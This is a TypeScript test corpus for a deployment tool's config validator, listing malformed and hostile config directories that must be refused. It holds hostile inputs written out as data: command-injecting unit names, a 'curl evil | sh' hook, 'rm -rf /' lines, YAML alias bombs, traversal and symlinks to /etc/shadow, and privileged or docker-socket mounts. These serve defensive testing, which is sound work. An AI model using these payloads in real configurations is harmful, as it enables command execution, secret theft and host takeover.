// The corpus of malformed and hostile config commits (issue 7): each case is a config dir that
// must be refused as a whole, with the file (and, where a key is at fault, the key) named.

export type CorpusFile = string | { symlink: string };

export interface CorpusCase {
  name: string;
  /** Config dir content: relative path -> text, or a symlink target. */
  files: Record<string, CorpusFile>;
  /** The file some problem must name. */
  file: string;
  /** A key some problem must name (regexp on `ConfigProblem.key`); null: a whole-file problem. */
  key: RegExp | null;
}

const svc = (body: string, name = 'web'): string => `services:\n  ${name}:\n    image: local/busybox:1\n${body}`;
const compose = (text: string, file = 'compose.yaml'): Record<string, CorpusFile> => ({ [file]: text });

/** Wrong types and values for each service key: [key, yaml value]. */
const WRONG_VALUES: [string, string][] = [
  ['image', '42'], ['image', '[a, b]'], ['image', '{ a: 1 }'], ['image', '""'],
  ['command', '{ a: 1 }'], ['command', '[1, [2]]'], ['entrypoint', '{ sh: 1 }'], ['entrypoint', '[{}]'],
  ['environment', '42'], ['environment', '"A=1"'], ['environment', '{ A: [1, 2] }'], ['environment', '{ A: { b: 1 } }'],
  ['env_file', '42'], ['env_file', '{ a: b }'], ['ports', '"80:80"'], ['ports', '[{ published: 80 }]'],
  ['ports', '["eighty:80"]'], ['ports', '["80:80/carrier-pigeon"]'], ['ports', '[{ target: 80, protocol: icmp }]'], ['ports', '[true]'],
  ['volumes', '"data:/data"'], ['volumes', '[{ type: nfs, target: /x }]'], ['volumes', '[{ source: a }]'], ['volumes', '[42]'],
  ['restart', '42'], ['restart', '"sometimes"'], ['labels', '42'], ['labels', '{ a: [1] }'],
  ['healthcheck', '"curl localhost"'], ['healthcheck', '{ test: 42 }'], ['healthcheck', '{ retries: -1 }'], ['healthcheck', '{ retries: many }'],
  ['healthcheck', '{ interval: forever }'], ['depends_on', '"db"'], ['depends_on', '{ db: { condition: service_dancing } }'], ['depends_on', '[ghost]'],
  ['networks', '"front"'], ['networks', '[ghost-net]'], ['network_mode', '42'], ['network_mode', '"service:ghost"'],
  ['user', '{ uid: 0 }'], ['user', '1.5'], ['working_dir', '[a]'], ['working_dir', '"relative/dir"'],
  ['hostname', '[a]'], ['extra_hosts', '"a:1.2.3.4"'], ['extra_hosts', '["no-address"]'], ['devices', '"/dev/null"'],
  ['cap_add', '"NET_ADMIN"'], ['cap_add', '[NOT_A_CAP]'], ['cap_drop', '{ a: 1 }'], ['privileged', '"yes please"'],
  ['privileged', '2'], ['stop_grace_period', '"a while"'], ['stop_grace_period', '[1]'], ['stop_signal', '9'],
  ['stop_signal', '"SIGNOPE"'], ['mem_limit', '"lots"'], ['mem_limit', '[1]'], ['mem_limit', '-5'],
  ['cpus', '"two"'], ['cpus', '-1'], ['cpus', '[1]'], ['logging', '"json-file"'],
  ['logging', '{ driver: 42 }'], ['logging', '{ options: [a] }'], ['init', '"sure"'], ['read_only', '3'],
  ['tmpfs', '{ a: 1 }'], ['tmpfs', '[42]'], ['container_name', '[a]'], ['container_name', '"bad name/with slash"'],
  ['pull_policy', '"sometimes"'], ['pull_policy', '42'], ['x-moor', '{ update: sideways }'], ['x-moor', '"fast"'],
];

/** Keys no supported compose version has, or that moor refuses: at several levels. */
const UNKNOWN_KEYS: [string, string][] = [
  ['build', '.'], ['deploy', '{ replicas: 2 }'], ['secrets', '[a]'], ['configs', '[a]'], ['links', '[db]'],
  ['external_links', '[db]'], ['pid', 'host'], ['ipc', 'host'], ['userns_mode', 'host'], ['cgroup_parent', '/x'],
  ['security_opt', '[seccomp=unconfined]'], ['sysctls', '{ a: 1 }'], ['ulimits', '{ nofile: many }'], ['volumes_from', '[db]'],
  ['frobnicate', 'true'], ['Image', 'local/busybox:1'], ['profiles', '{ a: 1 }'], ['platform', 'linux/arm64'], ['scale', '3'],
  ['runtime', 'runc'], ['oom_kill_disable', 'true'], ['shm_size', 'lots'], ['dns', '{ a: 1 }'], ['expose', '[eighty]'],
  ['ulimits', '{ nofiles: 1 }'], ['ulimits', '{ nofile: { soft: 2, hard: 1 } }'], ['deploy', '{ placement: { constraints: [a] } }'],
  ['sysctls', '[kernel.panic=1]'], ['stdin_open', 'maybe'], ['tty', '[1]'], ['links', '["bad link"]'], ['group_add', '{ a: 1 }'],
];

const UNIT_NAMES = [
  '../../etc/passwd.service', 'a;rm -rf /.service', 'evil\\nExecStart=/bin/sh.service', '.service', 'x.exe', 'foo.target',
  'name with space.service', '$(reboot).service', '`id`.service', 'tab\there.service', 'a/b.service', 'x.service\u0000',
];

function composeCases(): CorpusCase[] {
  const out: CorpusCase[] = [];
  WRONG_VALUES.forEach(([key, value], i) => {
    const body = key === 'image' ? `services:\n  web:\n    image: ${value}\n` : svc(`    ${key}: ${value}\n`);
    out.push({ name: `wrong type ${i}: ${key}: ${value}`, files: compose(body), file: 'compose.yaml', key: new RegExp(`^services\\.web\\.${escape(key)}`) });
  });
  for (const [key, value] of UNKNOWN_KEYS) {
    out.push({ name: `unknown service key ${key}`, files: compose(svc(`    ${key}: ${value}\n`)), file: 'compose.yaml', key: new RegExp(`services\\.web\\.${escape(key)}|services\\.web$`) });
  }
  for (const [top, value] of [['secrets', '{ a: { file: x, environment: Y } }'], ['configs', '{ c: { } }'], ['include', '[other.yaml]'], ['services2', '{}'], ['x', '1']] as const) {
    out.push({ name: `unknown top-level key ${top}`, files: compose(`${svc('')}${top}: ${value}\n`), file: 'compose.yaml', key: new RegExp(`^${top}([.[]|$)|^$`) });
  }
  for (const [key, value] of [['driver', '42'], ['external', '"maybe"'], ['driver_opts', '[a]'], ['bogus', '1']] as const) {
    out.push({ name: `top-level volume ${key}`, files: compose(`${svc('')}volumes:\n  data:\n    ${key}: ${value}\n`), file: 'compose.yaml', key: /^volumes\.data/ });
    out.push({ name: `top-level network ${key}`, files: compose(`${svc('')}networks:\n  front:\n    ${key}: ${value}\n`), file: 'compose.yaml', key: /^networks\.front/ });
  }
  for (const [what, text] of [
    ['services is a list', 'services:\n  - web\n'],
    ['services is a string', 'services: web\n'],
    ['a service is a string', 'services:\n  web: local/busybox:1\n'],
    ['a service is a list', 'services:\n  web: [a, b]\n'],
    ['a service has no image', 'services:\n  web:\n    command: ["true"]\n'],
    ['name is a map', `name: { a: 1 }\n${svc('')}`],
    ['service name with a slash', 'services:\n  "we/b":\n    image: local/busybox:1\n'],
    ['service name with spaces', 'services:\n  "w e b":\n    image: local/busybox:1\n'],
    ['two services share a container_name', `${svc('    container_name: same\n')}  api:\n    image: local/busybox:1\n    container_name: same\n`],
    ['undefined named volume', svc('    volumes: ["ghost:/data"]\n')],
    ['undefined network', svc('    networks: [ghost]\n')],
    ['depends_on cycle', 'services:\n  a:\n    image: local/busybox:1\n    depends_on: [b]\n  b:\n    image: local/busybox:1\n    depends_on: [a]\n'],
    ['interpolation without a value', svc('    environment: { A: "${NOPE?must be set}" }\n')],
    ['broken interpolation', svc('    environment: { A: "${UNCLOSED" }\n')],
  ] as const) {
    out.push({ name: what, files: compose(text), file: 'compose.yaml', key: /^(services|name)/ });
  }
  return out;
}

function syntaxCases(): CorpusCase[] {
  const whole = (name: string, text: string, file = 'compose.yaml'): CorpusCase => ({ name, files: { [file]: text }, file, key: null });
  const billion = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
  for (let i = 1; i < 9; i++) billion.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(10).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
  return [
    whole('tab indentation', 'services:\n\tweb:\n\t\timage: x\n'),
    whole('unclosed flow map', 'services: { web: { image: x }\n'),
    whole('unclosed quote', 'services:\n  web:\n    image: "local/busybox:1\n'),
    whole('bad indentation', 'services:\n  web:\n    image: x\n   command: y\n'),
    whole('duplicate key', 'services:\n  web:\n    image: a\n    image: b\n'),
    whole('duplicate service', 'services:\n  web:\n    image: a\n  web:\n    image: b\n'),
    whole('only a colon', ':\n'),
    whole('stray document marker junk', '--- !!binary\nxx: [\n'),
    whole('unknown tag', 'services: !include other.yaml\n'),
    whole('undefined alias', 'services:\n  web: *nothing\n'),
    whole('binary garbage', '\u0000\u0001\u0002\u00ff\u00fe: [}{'),
    whole('billion laughs', `x-bomb:\n${billion.map((l) => `  ${l}`).join('\n')}\nservices:\n  web:\n    image: local/busybox:1\n    environment: *i\n`),
    whole('alias bomb in a service', `x-a: &a [1,1,1,1,1,1,1,1,1,1]\nx-b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nx-c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nx-d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\nservices:\n  web:\n    image: local/busybox:1\n    command: *d\n`),
    whole('2 MB compose file', `${svc('')}x-pad: "${'A'.repeat(2 * 1024 * 1024)}"\n`),
    whole('1 MB + 1 byte', `# ${'p'.repeat(1024 * 1024)}\n${svc('')}`),
    whole('block nesting 200 deep', `x-deep:\n${Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i + 1)}k${i}:`).join('\n')} 1\n${svc('')}`),
    whole('flow nesting 5,000 deep', `x-deep: ${'['.repeat(5000)}${']'.repeat(5000)}\n${svc('')}`),
    whole('flow map nesting 1,000 deep', `x-deep: ${'{a: '.repeat(1000)}1${'}'.repeat(1000)}\n${svc('')}`),
    whole('sequence nesting 300 deep', `x-deep:\n${Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- `).join('\n')}1\n${svc('')}`),
    whole('broken moor.yaml', 'compose: [compose.yaml\n', 'moor.yaml'),
    whole('duplicate key in moor.yaml', 'rollout: {}\nrollout: {}\n', 'moor.yaml'),
    whole('huge moor.yaml', `# ${'m'.repeat(1024 * 1024 + 10)}\n`, 'moor.yaml'),
    { name: 'broken .env', files: { '.env': 'A=1\n=nokey\nB\n', 'compose.yaml': svc('') }, file: '.env', key: null },
    { name: 'huge .env', files: { '.env': `A=${'x'.repeat(1024 * 1024 + 1)}\n`, 'compose.yaml': svc('') }, file: '.env', key: null },
  ];
}

function manifestCases(): CorpusCase[] {
  const m = (name: string, text: string, key: RegExp, extra: Record<string, CorpusFile> = {}): CorpusCase => ({
    name,
    files: { 'moor.yaml': text, 'compose.yaml': svc(''), ...extra },
    file: 'moor.yaml',
    key,
  });
  const out: CorpusCase[] = [
    m('compose is a number', 'compose: 42\n', /^compose/),
    m('compose names a missing file', 'compose: [missing.yaml]\n', /^compose/),
    m('compose escapes the dir', 'compose: [../../etc/passwd]\n', /^compose/),
    m('compose absolute path', 'compose: [/etc/passwd]\n', /^compose/),
    m('units is a map', 'units: { a: 1 }\n', /^units/),
    m('unit without name', 'units:\n  - { enabled: true }\n', /^units/),
    m('unit state bogus', 'units:\n  - { name: a.service, state: dancing }\n', /^units/),
    m('unit unknown key', 'units:\n  - { name: a.service, exec: "rm -rf /" }\n', /^units/),
    m('files escapes the roots', 'files:\n  - { path: /etc/shadow, source: files/a }\n', /^files/, { 'files/a': 'x' }),
    m('files to the root', 'files:\n  - { path: /, source: files/a }\n', /^files/, { 'files/a': 'x' }),
    m('files path traversal', 'files:\n  - { path: /etc/moor-files/../shadow, source: files/a }\n', /^files/, { 'files/a': 'x' }),
    m('files relative path', 'files:\n  - { path: etc/x, source: files/a }\n', /^files/, { 'files/a': 'x' }),
    m('files source traversal', 'files:\n  - { path: /etc/moor-files/a, source: ../../../etc/shadow }\n', /^files/),
    m('files source absolute', 'files:\n  - { path: /etc/moor-files/a, source: /etc/shadow }\n', /^files/),
    m('files source missing', 'files:\n  - { path: /etc/moor-files/a, source: files/none }\n', /^files/),
    m('files mode bogus', 'files:\n  - { path: /etc/moor-files/a, source: files/a, mode: rwx }\n', /^files/, { 'files/a': 'x' }),
    m('files mode too wide', 'files:\n  - { path: /etc/moor-files/a, source: files/a, mode: "17777" }\n', /^files/, { 'files/a': 'x' }),
    m('files restarts an unknown unit', 'files:\n  - { path: /etc/moor-files/a, source: files/a, restarts: [ghost.service] }\n', /^files/, { 'files/a': 'x' }),
    m('rollout timeout bogus', 'rollout: { healthTimeout: soon }\n', /^rollout/),
    m('rollout rollback bogus', 'rollout: { rollback: perhaps }\n', /^rollout/),
    m('window bad cron', 'window: { schedule: "every day", duration: 2h }\n', /^window/),
    m('window bad duration', 'window: { schedule: "0 2 * * *", duration: long }\n', /^window/),
    m('manifest unknown key', 'hooks: { pre: "curl evil | sh" }\n', /^hooks/),
    m('manifest is a list', '- a\n- b\n', /^$/),
  ];
  UNIT_NAMES.forEach((name, i) => {
    out.push(m(`unit name injection ${i}`, `units:\n  - { name: ${JSON.stringify(name)} }\n`, /^units/));
  });
  return out;
}

/** Policy refusals under the default policy (no privileged, binds only under /srv). */
function policyCases(): CorpusCase[] {
  const p = (name: string, body: string, key: RegExp): CorpusCase => ({ name, files: compose(svc(body)), file: 'compose.yaml', key });
  const out: CorpusCase[] = [
    p('privileged', '    privileged: true\n', /privileged/),
    p('privileged as a string', '    privileged: "true"\n', /privileged/),
    p('cap_add SYS_ADMIN', '    cap_add: [SYS_ADMIN]\n', /cap_add/),
    p('cap_add ALL', '    cap_add: [ALL]\n', /cap_add/),
    p('cap_add CAP_SYS_ADMIN', '    cap_add: [CAP_SYS_ADMIN]\n', /cap_add/),
    p('cap_add lower case', '    cap_add: [sys_admin]\n', /cap_add/),
  ];
  const roots = ['/', '/etc', '/var/run/docker.sock', '/root', '/srv/../etc', '/srv/../../', '/proc', '/sys', '/boot', '/var/lib/moor', '/home', '/srvx', '//etc', '/srv/./../etc/shadow'];
  roots.forEach((root, i) => {
    out.push(p(`bind mount ${i}: ${root}`, `    volumes: ["${root}:/host"]\n`, /volumes/));
    out.push(p(`long bind mount ${i}: ${root}`, `    volumes: [{ type: bind, source: "${root}", target: /host }]\n`, /volumes/));
  });
  for (const dev of ['/dev/sda', '/dev/mem', '/dev/kmsg', '/srv/../dev/sda']) out.push(p(`device ${dev}`, `    devices: ["${dev}:/dev/x"]\n`, /devices/));
  out.push(p('relative bind source', '    volumes: ["../../etc:/host"]\n', /volumes/));
  out.push(p('bind with a home path', '    volumes: ["~/.ssh:/keys"]\n', /volumes/));
  return out;
}

/** Escapes through files the config dir holds: symlinks and traversal in referenced paths. */
function escapeCases(): CorpusCase[] {
  return [
    { name: 'compose.yaml is a symlink to /etc/passwd', files: { 'compose.yaml': { symlink: '/etc/passwd' } }, file: 'compose.yaml', key: null },
    { name: 'compose.yaml is a symlink out of the dir', files: { 'compose.yaml': { symlink: '../../../../etc/hostname' } }, file: 'compose.yaml', key: null },
    { name: 'moor.yaml is a symlink to /etc/shadow', files: { 'moor.yaml': { symlink: '/etc/shadow' }, 'compose.yaml': svc('') }, file: 'moor.yaml', key: null },
    { name: '.env is a symlink to /proc/self/environ', files: { '.env': { symlink: '/proc/self/environ' }, 'compose.yaml': svc('') }, file: '.env', key: null },
    { name: 'env_file traversal', files: compose(svc('    env_file: ../../../etc/passwd\n')), file: 'compose.yaml', key: /env_file/ },
    { name: 'env_file absolute', files: compose(svc('    env_file: /etc/passwd\n')), file: 'compose.yaml', key: /env_file/ },
    { name: 'env_file symlink escape', files: { 'compose.yaml': svc('    env_file: app.env\n'), 'app.env': { symlink: '/etc/passwd' } }, file: 'compose.yaml', key: /env_file/ },
    { name: 'env_file missing', files: compose(svc('    env_file: nope.env\n')), file: 'compose.yaml', key: /env_file/ },
    { name: 'file source symlink escape', files: { 'moor.yaml': 'files:\n  - { path: /etc/moor-files/a, source: files/a }\n', 'files/a': { symlink: '/etc/shadow' } }, file: 'moor.yaml', key: /^files/ },
    { name: 'file source dir symlink escape', files: { 'moor.yaml': 'files:\n  - { path: /etc/moor-files/a, source: files/x/shadow }\n', 'files/x': { symlink: '/etc' } }, file: 'moor.yaml', key: /^files/ },
    { name: 'unit file symlink escape', files: { 'units/evil.service': { symlink: '/lib/systemd/system/ssh.service' } }, file: 'units/evil.service', key: null },
    { name: 'units dir symlink escape', files: { 'units': { symlink: '/lib/systemd/system' } }, file: 'units', key: null },
    { name: 'unit file with a bad name', files: { 'units/evil;reboot.service': '[Service]\nExecStart=/bin/true\n' }, file: 'units/evil;reboot.service', key: null },
    { name: 'unit file with a bad suffix', files: { 'units/evil.exe': '[Service]\n' }, file: 'units/evil.exe', key: null },
    { name: 'drop-in not .conf', files: { 'units/a.service': '[Service]\nExecStart=/bin/true\n', 'units/a.service.d/override.sh': 'rm -rf /\n' }, file: 'units/a.service.d/override.sh', key: null },
    { name: 'drop-in symlink escape', files: { 'units/a.service': '[Service]\nExecStart=/bin/true\n', 'units/a.service.d/x.conf': { symlink: '/etc/shadow' } }, file: 'units/a.service.d/x.conf', key: null },
  ];
}

export function corpusCases(): CorpusCase[] {
  return [...composeCases(), ...syntaxCases(), ...manifestCases(), ...policyCases(), ...escapeCases()];
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&');
}
